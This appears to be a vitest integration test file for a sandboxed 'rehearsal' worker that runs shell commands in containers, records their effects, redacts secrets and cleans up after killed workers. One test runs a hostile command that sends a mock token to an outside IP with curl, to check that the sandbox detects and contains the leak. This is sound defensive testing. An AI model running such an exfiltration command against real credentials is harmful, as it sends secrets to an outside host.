import { execFileSync } from 'node:child_process';
import { mkdir, readdir, rm, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { TREE_PATH } from '@drylane/proto/task';
import { connectEngine } from '@drylane/worker/sandbox/engine';
import { gitIn } from '@drylane/worker/workspaces/git.fixture';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { hashTree } from '../demo/tree.ts';
import { type Fleet, rehearsalTask, startFleet } from './fleet.ts';
import type { WorkerProcess } from './worker.ts';

let fleet: Fleet;
let worker: WorkerProcess;
beforeAll(async () => {
  fleet = await startFleet('rehearsals');
  await writeFile(join(fleet.site, 'a'), 'one\n');
  await mkdir(join(fleet.root, 'source'), { recursive: true });
  worker = await fleet.worker('first', rehearsals());
});
afterAll(() => fleet?.[Symbol.asyncDispose]());

const rehearsals = () => ({
  DRYLANE_LANE: 'rehearsal',
  // So that what stands is of what runs.
  DRYLANE_SLOTS: '0',
  DRYLANE_GIT_SOURCES: `example.com,file:${join(fleet.root, 'source')}`,
});

/** What of our worker stands in the engine. */
async function standing({ child }: WorkerProcess): Promise<readonly string[]> {
  const engine = await connectEngine();
  const filters = { label: ['drylane.owner'] };
  const containers = await engine.listContainers({ all: true, filters });
  const owned = containers.map(({ Labels }) => Labels['drylane.owner'] ?? '');
  return owned.filter((owner) => owner.split('-')[2] === String(child.pid));
}

const readyOf = async ({ health }: WorkerProcess) => (await fetch(`${health}/readyz`)).json();

describe('a worker of the rehearsal lane', () => {
  it('rehearses on a directory, and keeps what was seen and what may land', async () => {
    expect(await readyOf(worker)).toEqual({ ready: true, draining: false, failing: [] });
    const before = await hashTree(fleet.site);
    const { rehearsed, evidence } = await fleet.rehearse('sed -i s/one/two/ a; echo n > n');
    expect(evidence).toMatchObject({ complete: true, exit_code: 0, network: [] });
    expect(evidence.changes.map(({ path, kind }) => [path, kind])).toEqual([
      ['a', 'modified'],
      ['n', 'added'],
    ]);
    expect(rehearsed).toMatchObject({
      commit: null,
      raw_output: null,
      place: { path: fleet.site, fingerprint: null },
    });
    expect(await fleet.blobs.has(rehearsed.change_set ?? 'sha256:')).toBe(true);
    expect(await fleet.blobs.has(rehearsed.patches)).toBe(true);
    expect(await hashTree(fleet.site)).toBe(before);
    const text = await (await fetch(`${worker.health}/metrics`)).text();
    expect(text).toContain('drylane_stage_duration_seconds_count{stage="rehearse"} 1');
    expect(text).toContain('drylane_rehearsal_overhead_seconds_count 1');
  });

  it('tells of a hostile command, and lets nothing of it out', async () => {
    const { rehearsed, evidence } = await fleet.rehearse('curl -m 2 http://203.0.113.1/$TOKEN; echo $TOKEN', {
      allowed: { ...rehearsalTask('/', '').allowed, credentials: ['TOKEN'] },
      mocks: { TOKEN: 'ghp_' },
    });
    expect(evidence.network.length).toBeGreaterThan(0);
    expect(evidence.canaries.length).toBeGreaterThan(0);
    expect(rehearsed.change_set).toBe(null);
    expect(rehearsed.place?.fingerprint).toMatch(/^sha256:/);
    expect(evidence.stdout.text).toContain('[redacted:token]');
    const text = await (await fetch(`${worker.health}/metrics`)).text();
    expect(text).toMatch(/drylane_canary_leaks_total [1-9]/);
    expect(text).toMatch(/drylane_redactions_total\{kind="other"\} [1-9]/);
  });

  it('keeps no contents of what surely cannot land', async () => {
    const { rehearsed, evidence } = await fleet.rehearse('mkdir secrets && echo k > secrets/key');
    expect(evidence).toMatchObject({
      complete: true,
      changes: [{ class: 'forbidden' }, { class: 'forbidden' }],
    });
    expect(rehearsed.change_set).toBe(null);
  });

  it('rehearses on a snapshot, as a user that is not root', async () => {
    const tree = join(fleet.root, 'tree');
    await mkdir(join(tree, 'sub'), { recursive: true });
    await writeFile(join(tree, 'sub', 'f'), 'x\n');
    const tar = execFileSync('tar', ['-c', '-C', tree, '.']);
    const snapshot = await fleet.blobs.put(tar);
    const at = { source: { snapshot }, workspace: TREE_PATH, working_dir: `${TREE_PATH}/sub` };
    for (const text of ['first', 'second']) {
      const { rehearsed, evidence } = await fleet.rehearse(`id -u; pwd; echo ${text} >> f`, at);
      expect(evidence).toMatchObject({ complete: true, stdout: { text: `1000\n${TREE_PATH}/sub\n` } });
      expect(evidence.changes.map(({ path }) => path)).toEqual(['sub/f']);
      expect(rehearsed).toMatchObject({ place: null, commit: null });
      expect(rehearsed.change_set).not.toBe(null);
    }
    const outside = { ...at, working_dir: `${TREE_PATH}/none` };
    await expect(fleet.rehearse('true', outside)).rejects.toThrow('is no directory on this worker');
  });

  it('rehearses on the commit that a git ref stands for, and on no repository that is not allowed', async () => {
    const repository = join(fleet.root, 'source', 'r');
    await mkdir(repository);
    gitIn(repository, ['init', '--quiet', '--initial-branch=main']);
    await writeFile(join(repository, 'f'), 'x\n');
    gitIn(repository, ['add', '--all']);
    gitIn(repository, ['commit', '--quiet', '--message', 'm']);
    const at = { workspace: TREE_PATH, working_dir: TREE_PATH };
    const git = { url: `file://${repository}`, ref: 'main' };
    const { rehearsed, evidence } = await fleet.rehearse('rm f', { ...at, source: { git } });
    expect(rehearsed.commit).toBe(gitIn(repository, ['rev-parse', 'HEAD']));
    expect(evidence.changes.map(({ path, kind }) => [path, kind])).toEqual([['f', 'deleted']]);
    const elsewhere = { git: { url: 'https://203.0.113.1/r', ref: 'main' } };
    await expect(fleet.rehearse('rm f', { ...at, source: elsewhere })).rejects.toThrow('is not a host');
  });

  it('refuses a path that is not where it says, or not among its workspaces', async () => {
    const link = join(fleet.site, 'link');
    await symlink(fleet.site, link);
    const on = (path: string, working_dir = path) => ({ source: { path }, workspace: path, working_dir });
    await expect(fleet.rehearse('true', on(link))).rejects.toThrow('leads somewhere else');
    await expect(fleet.rehearse('true', on(fleet.root))).rejects.toThrow('not where workspaces');
    await expect(fleet.rehearse('true', on('/'))).rejects.toThrow('not where workspaces');
    await expect(fleet.rehearse('true', on(fleet.site, '/etc'))).rejects.toThrow('is not in the workspace');
    await expect(fleet.rehearse('true', on(join(fleet.site, 'none')))).rejects.toThrow('is no directory');
    await rm(link);
  });

  it('answers for a failure of the input at once, and lets another try what is its own', async () => {
    const answer = await fleet.send('rehearse', rehearsalTask(fleet.site, 'true', { image: 'drylane/none' }));
    expect(answer).toEqual({
      ok: false,
      reason: expect.stringContaining('the engine has no image drylane/none'),
    });
    const task = rehearsalTask(fleet.site, 'true');
    const wrong = { ...task, run: rehearsalTask(fleet.site, '').run, working_dir: fleet.root };
    const refused = await fleet.send('rehearse', wrong);
    expect(refused).toMatchObject({ ok: true, value: { ok: false } });
  });

  it('is followed by another when it is killed, which takes away what it left', async () => {
    const begun = fleet.rehearse('sleep 8; echo late > late');
    while ((await standing(worker)).length === 0) await new Promise((done) => setTimeout(done, 100));
    expect(await worker.end('SIGKILL')).toBe('SIGKILL');
    const dead = worker;
    worker = await fleet.worker('first', rehearsals());
    expect(await standing(dead)).toEqual([]);
    const { evidence } = await begun;
    expect(evidence).toMatchObject({ complete: true, changes: [{ path: 'late' }] });
    expect(await readdir(join(fleet.root, 'first', 'sandboxes'))).toEqual([]);
  });

  it('has its slots taken away as well, by whoever follows it or by itself', async () => {
    const slots = { ...rehearsals(), DRYLANE_SLOTS: '1' };
    expect(await worker.end('SIGTERM')).toBe(0);
    worker = await fleet.worker('first', slots);
    await fleet.rehearse('true');
    while ((await standing(worker)).length === 0) await new Promise((done) => setTimeout(done, 100));
    const dead = worker;
    expect(await worker.end('SIGKILL')).toBe('SIGKILL');
    worker = await fleet.worker('first', slots);
    expect(await standing(dead)).toEqual([]);
    expect((await fleet.rehearse('echo slot')).evidence.stdout.text).toBe('slot\n');
    while ((await standing(worker)).length === 0) await new Promise((done) => setTimeout(done, 100));
    expect(await worker.end('SIGTERM')).toBe(0);
    expect(await standing(worker)).toEqual([]);
    expect(await readdir(join(fleet.root, 'first', 'sandboxes'))).toEqual([]);
    worker = await fleet.worker('first', rehearsals());
  });

  it('finishes what it has when it is told to end, and takes nothing new', async () => {
    const begun = fleet.rehearse('sleep 4; echo done');
    while ((await standing(worker)).length === 0) await new Promise((done) => setTimeout(done, 100));
    expect(await worker.end('SIGTERM')).toBe(0);
    expect((await begun).evidence).toMatchObject({ complete: true, stdout: { text: 'done\n' } });
    expect(await standing(worker)).toEqual([]);
  });

  it('gives up what does not end in time, for another to begin', async () => {
    worker = await fleet.worker('first', { ...rehearsals(), DRYLANE_GRACE: '1s' });
    const begun = fleet.rehearse('sleep 6; echo done');
    while ((await standing(worker)).length === 0) await new Promise((done) => setTimeout(done, 100));
    expect(await worker.end('SIGTERM')).toBe(1);
    expect(await standing(worker)).toEqual([]);
    expect(await readdir(join(fleet.root, 'first', 'sandboxes'))).toEqual([]);
    worker = await fleet.worker('second', rehearsals());
    expect((await begun).evidence.stdout.text).toBe('done\n');
  });
});
